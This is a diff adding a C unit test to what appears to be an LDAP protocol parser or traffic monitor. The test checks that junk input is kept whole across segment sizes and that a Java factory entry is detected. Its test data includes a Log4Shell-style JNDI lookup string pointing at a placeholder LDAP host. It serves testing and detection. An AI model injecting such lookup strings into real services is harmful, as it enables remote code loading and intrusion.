@@ -248,6 +248,38 @@ static void junk_before_an_answer(void **state)
     transcript_drop(&t);
 }
 
+/* Whatever the segments: what is junk and what is not is decided when enough of it is there, and a text in it
+ * is given whole, though a '0' in it looks like a head. */
+static void junk_is_given_whole(void **state)
+{
+    static const char junk[] = "x${jndi:ldap://10.0.0.1/a}", endless[] = "0 of junk";
+    struct buf s = buf_within(4096);
+
+    (void)state;
+    buf_add_str(&s, junk);
+    buf_add(&s, wire_ldap_entry);
+    for (unsigned behind = 0; behind < 2; behind++, buf_clear(&s)) {
+        for (unsigned i = 0; behind && i < 30; i++)
+            buf_add_str(&s, endless);
+        if (behind)
+            buf_add_str(&s, junk);
+        for (size_t size = 1; size < 12; size++) {
+            struct said said[1200] = {{0, wire_ldap_search, 0}};
+            struct transcript t;
+            unsigned n = 1;
+
+            for (size_t at = 0; at < s.len; at += size)
+                said[n++] = (struct said){1, bytes_slice(buf_bytes(&s), at, at + size), 0};
+            t = play(said, n);
+            assert_true(transcript_raw_has(&t, 1, junk));
+            assert_int_equal(transcript_has(&t, "java.factory=Payload;"), !behind);
+            transcript_drop(&t);
+        }
+    }
+    assert_int_equal(holds_bytes(), 0);
+    buf_drop(&s);
+}
+
 static void given_up_is_watched(void **state)
 {
     struct said said[] = {{0, wire_ldap_bind, 0},
@@ -418,6 +450,7 @@ int main(void)
         cmocka_unit_test(recognised_from_any_message),
         cmocka_unit_test(not_ldap),
         cmocka_unit_test(junk_before_an_answer),
+        cmocka_unit_test(junk_is_given_whole),
         cmocka_unit_test(given_up_is_watched),
         cmocka_unit_test(malformed_inside_stays_in_step),
         cmocka_unit_test(longer_than_allowed),
